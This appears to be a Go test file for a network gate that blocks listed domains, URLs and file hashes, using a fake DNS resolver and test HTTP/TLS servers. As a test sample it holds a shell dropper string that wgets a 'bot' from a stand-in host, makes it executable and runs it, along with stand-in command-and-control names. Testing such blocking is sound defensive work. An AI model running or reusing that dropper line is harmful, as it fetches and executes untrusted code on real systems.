package gate

import (
	"context"
	"crypto/sha256"
	"crypto/tls"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"iter"
	"net"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"

	"github.com/masugata/masugata/internal/intel/reputation"
	"github.com/masugata/masugata/internal/intel/reputation/canon"
	"github.com/masugata/masugata/internal/intel/reputation/edge"
	"github.com/masugata/masugata/internal/link/client"
	"github.com/masugata/masugata/internal/model"
)

// listener is a link that keeps the events.
type listener struct {
	mu     sync.Mutex
	events []*model.Event
}

func (l *listener) Submit(e *model.Event) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.events = append(l.events, e)
}
func (l *listener) Nudge()                        {}
func (l *listener) Run(ctx context.Context) error { <-ctx.Done(); return nil }
func (l *listener) Status() client.Status         { return client.Status{} }
func (l *listener) of(k model.Kind) (out []*model.Event) {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, e := range l.events {
		if e.Kind == k {
			out = append(out, e)
		}
	}
	return out
}

// startWith runs a gate as Run does, with a link that keeps its events.
func (w *rig) startWith(l *listener) (g *Gate, stop func()) {
	w.t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	opened, ended := make(chan error), make(chan error, 1)
	go func() {
		_, _ = within(w.gate, func() (struct{}, error) {
			g = newGate(w.cfg, testLog(w.t.(*testing.T)), "test")
			g.link = l
			g.openInspection()
			err := errors.Join(os.MkdirAll(w.cfg.State, 0o700), g.openDatapath(nil))
			opened <- err
			if err == nil {
				ended <- errors.Join(g.run(ctx, nil), g.dp.Close())
			}
			return struct{}{}, nil
		})
	}()
	if err := <-opened; err != nil {
		w.t.Fatal(err)
	}
	for range 200 {
		if _, err := AskStatus(ctx, w.cfg.State); err == nil {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	w.until("scanning", func(s Status) bool { return s.Scans > 2 && (s.Inspection != nil) == w.cfg.Inspection.Enabled })
	return g, func() {
		cancel()
		if err := <-ended; err != nil {
			w.t.Errorf("gate: %v", err)
		}
	}
}

// list puts a set of things with the score 95 into force, with its tails.
func (g *Gate) list(t testing.TB, version uint64, objects ...reputation.Object) {
	t.Helper()
	entries := iter.Seq2[reputation.Object, reputation.Brief](func(yield func(reputation.Object, reputation.Brief) bool) {
		for _, o := range objects {
			if !yield(o, reputation.Brief{Score: 95}) {
				return
			}
		}
	})
	snap, err := edge.Build(entries, edge.Config{Header: edge.Header{Class: edge.ClassLarge, Version: version, Issued: 1, Expires: 1 << 31}})
	if err != nil {
		t.Fatal(err)
	}
	set, err := edge.Open(snap.Payload, 2, 0)
	if err == nil {
		set, err = set.WithTails(snap.Tails)
	}
	if err != nil {
		t.Fatal(err)
	}
	g.mu.Lock()
	g.blocklist.set, g.blocklist.sure = set, set
	g.inspectListed()
	g.mu.Unlock()
	time.Sleep(200 * time.Millisecond) // a worker turns at least every 50 ms
}

func object(t testing.TB, parse func(string) (reputation.Object, error), s string) reputation.Object {
	t.Helper()
	o, err := parse(s)
	if err != nil {
		t.Fatal(err)
	}
	return o
}

// resolver answers every name outside with an address, and counts questions.
func (w *rig) resolver() *atomic.Int64 {
	pc, err := within(w.outside, func() (net.PacketConn, error) { return net.ListenPacket("udp4", outsideAddr+":53") })
	if err != nil {
		w.t.Fatal(err)
	}
	var asked atomic.Int64
	s := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(func(rw dns.ResponseWriter, q *dns.Msg) {
		asked.Add(1)
		m := new(dns.Msg).SetReply(q)
		name := q.Question[0].Name
		if name == "alias.example." {
			rr, _ := dns.NewRR(name + " 60 IN CNAME c2.evil.example.")
			m.Answer, name = append(m.Answer, rr), "c2.evil.example."
		}
		rr, _ := dns.NewRR(name + " 60 IN A " + outsideAddr)
		m.Answer = append(m.Answer, rr)
		_ = rw.WriteMsg(m)
	})}
	go func() { _ = s.ActivateAndServe() }()
	w.t.Cleanup(func() { _ = s.Shutdown() })
	return &asked
}

// resolve asks for a name.
func (w *rig) resolve(name string, edns bool) (*dns.Msg, error) {
	c := &dns.Conn{Conn: w.dial(53)}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(2 * time.Second))
	q := new(dns.Msg).SetQuestion(name, dns.TypeA)
	if edns {
		q.SetEdns0(4096, false)
	}
	if err := c.WriteMsg(q); err != nil {
		return nil, err
	}
	m, err := c.ReadMsg()
	if err == nil && m.Id != q.Id {
		err = fmt.Errorf("answer %d to question %d", m.Id, q.Id)
	}
	return m, err
}

// shake does a TLS handshake with a name and sends something back and forth.
func (w *rig) shake(name string) (*tls.Conn, error) {
	c, err := w.connect(443)
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	s := tls.Client(c, &tls.Config{InsecureSkipVerify: true, ServerName: name})
	if err := s.Handshake(); err != nil {
		c.Close()
		return nil, err
	}
	return s, talkTLS(s)
}

func talkTLS(s *tls.Conn) error {
	_ = s.SetDeadline(time.Now().Add(2 * time.Second))
	if _, err := s.Write(make([]byte, 1000)); err != nil {
		return err
	}
	_, err := io.ReadFull(s, make([]byte, 1000))
	return err
}

// fetch gets a URL's path of a host, and gives the body.
func (w *rig) fetch(host, path string) (string, error) {
	c, err := w.connect(80)
	if err != nil {
		return "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(2 * time.Second))
	if _, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", path, host); err != nil {
		return "", err
	}
	b, err := io.ReadAll(c)
	_, body, _ := strings.Cut(string(b), "\r\n\r\n")
	return body, err
}

const script = "#!/bin/sh\ncd /tmp; wget http://files.example/bot; chmod +x bot; ./bot\n"

// serveFiles answers each request with the script, or "hello".
func serveFiles(c net.Conn) {
	b := make([]byte, 4096)
	n, err := c.Read(b)
	if err != nil {
		return
	}
	body := "hello"
	if strings.HasPrefix(string(b[:n]), "GET /script") {
		body = script
	}
	fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n", len(body))
	for len(body) > 0 { // in several segments
		k := min(20, len(body))
		if _, err := io.WriteString(c, body[:k]); err != nil {
			return
		}
		body = body[k:]
		time.Sleep(5 * time.Millisecond)
	}
}

func (w *rig) serveAll(t *testing.T) *atomic.Int64 {
	cert := certificate(t)
	w.serve(443, func(c net.Conn) {
		s := tls.Server(c, &tls.Config{Certificates: []tls.Certificate{cert}})
		_, _ = io.Copy(s, s)
	})
	w.serve(80, serveFiles)
	return w.resolver()
}

// TestReputationOnTheWire: without any rule, and with inspection that only
// observes, a listed name gets no address, a listed server no session, a listed
// URL no answer, and a listed file does not arrive whole; all else passes. Then
// the policy observes, and all passes and is told.
func TestReputationOnTheWire(t *testing.T) {
	w := inspected(t, model.ModeObserve, "")
	w.cfg.Inspection.Rules = nil
	l := &listener{}
	g, stop := w.startWith(l)
	defer stop()
	asked := w.serveAll(t)
	sum := sha256.Sum256([]byte(script))
	digest := hex.EncodeToString(sum[:])
	g.list(t, 1, canon.Widen(object(t, canon.Domain, "evil.example")), object(t, canon.URL, "http://files.example/bot.sh"), object(t, canon.File, digest))

	w.otherThingsPass(t)
	before := asked.Load()
	for _, edns := range []bool{false, true} {
		m, err := w.resolve("c2.evil.example.", edns)
		if err != nil || m.Rcode != dns.RcodeNameError || !m.RecursionAvailable || len(m.Question) != 1 || m.Question[0].Name != "c2.evil.example." {
			t.Fatalf("a listed name: %v, %v", m, err)
		}
		if opt := m.IsEdns0(); (opt != nil) != edns || edns && opt.Option[0].(*dns.EDNS0_EDE).InfoCode != dns.ExtendedErrorCodeBlocked {
			t.Errorf("reason in %v", m)
		}
	}
	if asked.Load() != before {
		t.Error("the resolver was asked for a listed name")
	}
	if m, err := w.resolve("alias.example.", true); err != nil || m.Rcode != dns.RcodeNameError || len(m.Answer) != 0 || m.Question[0].Name != "alias.example." {
		t.Errorf("a name that stands for a listed one: %v, %v", m, err)
	}
	if _, err := w.shake("c2.evil.example"); !errors.Is(err, unix.ECONNRESET) {
		t.Errorf("a listed server: %v, want a reset", err)
	}
	if got, err := w.fetch("www.evil.example", "/"); !errors.Is(err, unix.ECONNRESET) {
		t.Errorf("a listed host: %q, %v, want a reset", got, err)
	}
	if got, err := w.fetch("files.example", "/bot.sh?id=1"); !errors.Is(err, unix.ECONNRESET) {
		t.Errorf("a listed URL: %q, %v, want a reset", got, err)
	}
	if got, err := w.fetch("files.example", "/script"); err == nil || got == script {
		t.Errorf("a listed file: %q, %v", got, err)
	}
	s := w.until("counted", func(s Status) bool { return s.Inspection.ListedStopped == 7 })
	if s.Inspection.Listed != 7 || s.Inspection.Denied != 3 || s.Inspection.Listing.Entries != 3 {
		t.Errorf("%+v", s.Inspection)
	}
	want := []string{"domain c2.evil.example", "domain c2.evil.example", "domain www.evil.example", "sha256 " + digest, "url files.example/bot.sh?id=1"}
	w.told(t, l, model.KindListedBlocked, want)

	g.mu.Lock()
	g.policy.Reputation.Mode = model.ModeObserve
	g.inspectListed()
	g.mu.Unlock()
	time.Sleep(200 * time.Millisecond)
	if m, err := w.resolve("c2.evil.example.", false); err != nil || m.Rcode != dns.RcodeSuccess {
		t.Errorf("observed name: %v, %v", m, err)
	}
	if c, err := w.shake("c2.evil.example"); err != nil {
		t.Errorf("observed server: %v", err)
	} else {
		c.Close()
	}
	if got, err := w.fetch("files.example", "/script"); err != nil || got != script {
		t.Errorf("observed file: %q, %v", got, err)
	}
	w.told(t, l, model.KindListedSeen, []string{"domain c2.evil.example", "domain c2.evil.example", "sha256 " + digest})
}

func (w *rig) otherThingsPass(t *testing.T) {
	t.Helper()
	if m, err := w.resolve("good.example.", true); err != nil || m.Rcode != dns.RcodeSuccess || len(m.Answer) != 1 {
		t.Errorf("another name: %v, %v", m, err)
	}
	if c, err := w.shake("good.example"); err != nil {
		t.Errorf("another server: %v", err)
	} else {
		c.Close()
	}
	if got, err := w.fetch("files.example", "/other.sh"); err != nil || got != "hello" {
		t.Errorf("another URL: %q, %v", got, err)
	}
}

// told waits for events of a kind whose first observables are the wanted ones.
func (w *rig) told(t *testing.T, l *listener, k model.Kind, want []string) {
	t.Helper()
	var got []string
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		got = nil
		for _, e := range l.of(k) {
			got = append(got, string(e.Observables[0].Type)+" "+e.Observables[0].Value)
			if e.Device != "mac-"+model.DeviceID(strings.ReplaceAll(deviceMAC, ":", "")) || e.Rule != ruleReputation || e.Severity != model.SeverityHigh || e.Explanation == "" || len(e.Observables) < 4 {
				t.Fatalf("%+v", e)
			}
		}
		if slices.Sort(got); slices.Equal(got, want) {
			return
		}
	}
	t.Errorf("%s told of %q, want %q", k, got, want)
}

// TestNewSetReachesSettledSessions: a session that the kernel forwards by
// itself ends when its name becomes listed.
func TestNewSetReachesSettledSessions(t *testing.T) {
	w := inspected(t, model.ModeObserve, testRules)
	g, stop := w.startWith(&listener{})
	defer stop()
	w.serveAll(t)
	g.list(t, 1, object(t, canon.Domain, "other.example"))
	c, err := w.shake("cam.evil.example")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	for range 20 {
		if err := talkTLS(c); err != nil {
			t.Fatal(err)
		}
	}
	w.until("settled", func(s Status) bool { return s.Inspection.Settled > 0 && s.Totals.Settled > 0 })
	g.list(t, 2, canon.Widen(object(t, canon.Domain, "evil.example")))
	if err := talkTLS(c); !errors.Is(err, unix.ECONNRESET) {
		t.Errorf("the session goes on: %v", err)
	}
}
